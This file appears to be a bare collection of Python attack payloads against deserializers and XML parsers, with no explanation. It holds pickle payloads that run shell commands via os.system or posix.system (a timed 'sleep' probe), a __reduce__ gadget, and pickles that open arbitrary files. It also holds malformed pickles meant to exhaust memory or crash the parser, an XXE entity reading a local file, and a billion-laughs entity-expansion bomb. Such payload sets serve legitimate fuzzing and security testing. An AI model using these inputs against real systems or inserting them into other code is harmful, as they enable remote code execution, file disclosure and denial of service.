import pickle
pickle.loads(b"cos\nsystem\n(S'sleep 30.04973'\ntR.")
# ---
import pickle
pickle.loads(b"cposix\nsystem\n(S'sleep 30.04973'\ntR.")
# ---
import pickle
pickle.loads(b"cbuiltins\nopen\n(V" + PATH.encode() + b"\ntR.").read()
# ---
import pickle, os
class P:
    def __reduce__(self):
        return os.system, ("sleep " + SECONDS,)
pickle.loads(pickle.dumps(P()))
# ---
import pickle
pickle.loads(b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + b"x" * 100)
# ---
import pickle
pickle.loads(b"B\xff\xff\xff\x7fx")
# ---
import pickle
pickle.loads(b"(" * 10**6 + b".")
# ---
import copyreg, copy
copyreg.pickle(int, lambda x: (open, (PATH,)))
copy.copy(open)
# ---
import shelve, dbm.dumb
dbm.dumb.open(PATH, "n")
# ---
import plistlib, xml.etree.ElementTree as e
e.fromstring('<!DOCTYPE a [<!ENTITY x SYSTEM "file://' + PATH + '">]><a>&x;</a>')
# ---
import xml.dom.minidom as m
e = "".join(f'<!ENTITY a{i} "{f"&a{i-1};" * 10}">' for i in range(1, 12))
m.parseString(f'<!DOCTYPE a [<!ENTITY a0 "x">{e}]><a>&a11;</a>')
